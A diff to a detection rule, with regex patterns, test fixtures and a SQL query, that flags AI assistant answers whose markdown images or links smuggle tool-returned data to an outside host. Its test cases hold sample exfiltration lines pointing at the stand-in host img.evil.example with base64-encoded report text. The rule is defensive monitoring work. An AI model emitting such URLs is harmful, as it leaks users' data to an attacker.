@@ -1,12 +1,12 @@
 -- +++
--- title = "Image in an answer carries data out"
+-- title = "Image or link in an answer carries data out"
 -- severity = "high"
 -- confidence = "medium"
 -- status = "stable"
 -- tier = "signal"
 -- since = "0.1.0"
--- what = "An answer holds an image whose address carries a long encoded value that nothing before had shown."
--- impact = "Displaying the answer sends the value to that host, without a click."
+-- what = "An answer holds an image whose address carries a long encoded value that nothing before had shown, or a link whose address carries what a tool had returned."
+-- impact = "Displaying the image, or following the link, sends the value to that host."
 -- false_positives = [
 --   "Charts and badges that are made by an address.",
 -- ]
@@ -17,7 +17,8 @@
 -- references = []
 -- tags = ["owasp-asi:2026:ASI01", "owasp-llm:2025:LLM05", "atlas:AML.T0077"]
 -- [params]
--- pattern = "!\\[[^\\]]*\\]\\((https?://[^\\s)]+[?&/=][A-Za-z0-9%+/_-]{32,}=*[^\\s)]*)\\)"
+-- image = "!\\[[^\\]]*\\]\\((https?://[^\\s)]+[?&/=][A-Za-z0-9%+/_-]{32,}=*[^\\s)]*)\\)"
+-- link = "(?:^|[^!])\\[[^\\]]*\\]\\((https?://[^\\s)]+[?&/=][A-Za-z0-9%+/_-]{32,}=*[^\\s)]*)\\)"
 -- run = 4
 -- [[case]]
 -- name = "an image with a long value"
@@ -188,18 +189,61 @@
 -- expect = [
 --   { severity = "high", confidence = "medium" },
 -- ]
+-- [[case]]
+-- name = "a link whose address holds what a tool had returned"
+-- messages = [
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m2", position = 2, role = "tool", kind = "tool_result", text = "Summary: the quarterly numbers of the northern region are down by twelve percent.", bytes = 85, time = 2026-03-01T09:02:00Z, record_id = 2 },
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "[x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
+-- ]
+-- expect = [
+--   { subject = "img.evil.example", severity = "high", confidence = "high" },
+-- ]
+-- [[case]]
+-- name = "a link, and a tool had returned something else"
+-- messages = [
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m2", position = 2, role = "tool", kind = "tool_result", text = "nothing of the kind stands here at all", bytes = 85, time = 2026-03-01T09:02:00Z, record_id = 2 },
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "[x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
+-- ]
+-- expect = []
+-- [[case]]
+-- name = "such a link that is only thought of"
+-- messages = [
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m2", position = 2, role = "tool", kind = "tool_result", text = "Summary: the quarterly numbers of the northern region are down by twelve percent.", bytes = 85, time = 2026-03-01T09:02:00Z, record_id = 2 },
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "thinking", text = "[x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
+-- ]
+-- expect = []
+-- [[case]]
+-- name = "such a link of the user"
+-- messages = [
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m2", position = 2, role = "tool", kind = "tool_result", text = "Summary: the quarterly numbers of the northern region are down by twelve percent.", bytes = 85, time = 2026-03-01T09:02:00Z, record_id = 2 },
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "user", kind = "text", text = "[x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
+-- ]
+-- expect = []
+-- [[case]]
+-- name = "a harmless link before an image"
+-- messages = [
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m2", position = 2, role = "tool", kind = "tool_result", text = "Summary: the quarterly numbers of the northern region are down by twelve percent.", bytes = 85, time = 2026-03-01T09:02:00Z, record_id = 2 },
+--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "[docs](https://docs.example/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa) ![x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
+-- ]
+-- expect = [
+--   { subject = "img.evil.example", severity = "high", confidence = "high" },
+-- ]
 -- +++
 WITH found AS (
-  SELECT m.*, regexp_match(m.text, $pattern)[1] AS address
+  SELECT m.*, true AS image, regexp_match(m.text, $image)[1] AS address
   FROM messages m
-  WHERE m.role = 'assistant' AND m.kind = 'text' AND regexp_like(m.text, $pattern)
+  WHERE m.role = 'assistant' AND m.kind = 'text' AND regexp_like(m.text, $image)
+  UNION ALL
+  SELECT m.*, false, regexp_match(m.text, $link)[1]
+  FROM messages m
+  WHERE m.role = 'assistant' AND m.kind = 'text'
 ),
 links AS (
   SELECT *, lower(regexp_replace(regexp_replace(address, '^https?://', ''), '[/?#:].*', '')) AS host FROM found
 ),
 carried AS (
   -- What stands encoded in the address is what a tool had returned.
-  SELECT DISTINCT l.message_id
+  SELECT DISTINCT l.message_id, l.address
   FROM links l
   JOIN messages m ON m.conversation_id = l.conversation_id AND m.position < l.position
   WHERE m.role = 'tool' AND shared_words(decoded(l.address), m.text, $run) > 0
@@ -211,30 +255,32 @@ familiar AS (
 ),
 known AS (
   -- An address that the user, the system prompt or a result showed whole was only passed on.
-  SELECT DISTINCT l.message_id
+  SELECT DISTINCT l.message_id, l.address
   FROM links l
   JOIN messages m ON m.conversation_id = l.conversation_id AND m.position < l.position
   WHERE m.role <> 'assistant' AND strpos(m.text, l.address) > 0
 )
 SELECT
   l.host AS subject,
-  'An answer to ' || l.login || ' shows an image whose address carries data: ' || defang(left(l.address, 160))
+  'An answer to ' || l.login || CASE WHEN l.image THEN ' shows an image' ELSE ' holds a link' END || ' whose address carries data: ' || defang(left(l.address, 160))
     || CASE WHEN c.message_id IS NOT NULL THEN '; decoded, it holds words that a tool had returned' ELSE '' END
     || CASE WHEN f.host IS NOT NULL THEN '; the organisation knows that host' ELSE '' END
-    || '; whoever displays it sends that data out.' AS reason,
+    || CASE WHEN l.image THEN '; whoever displays it' ELSE '; whoever follows it' END || ' sends that data out.' AS reason,
   l.time AS first_seen,
   l.time AS last_seen,
   CAST(1 AS BIGINT) AS count,
   l.session_id,
   l.login,
   l.device,
-  l.message_id AS key,
+  l.message_id || CASE WHEN l.image THEN '' ELSE ' link' END AS key,
   CASE WHEN f.host IS NOT NULL THEN 'low' ELSE 'high' END AS severity,
   CASE WHEN f.host IS NOT NULL THEN 'low' WHEN c.message_id IS NOT NULL THEN 'high' ELSE 'medium' END AS confidence,
   make_array(evidence(l.export_key, l.record_id)) AS evidence
 FROM links l
-LEFT JOIN carried c ON c.message_id = l.message_id
+LEFT JOIN carried c ON c.message_id = l.message_id AND c.address = l.address
 LEFT JOIN familiar f ON f.host = l.host
-LEFT JOIN known k ON k.message_id = l.message_id
+LEFT JOIN known k ON k.message_id = l.message_id AND k.address = l.address
 WHERE k.message_id IS NULL
-ORDER BY l.session_id, l.position, l.part, l.message_id
+  -- A link is not displayed by itself, and many carry long values; one that carries what was read is another thing.
+  AND (l.image OR c.message_id IS NOT NULL)
+ORDER BY l.session_id, l.position, l.part, l.message_id, l.image
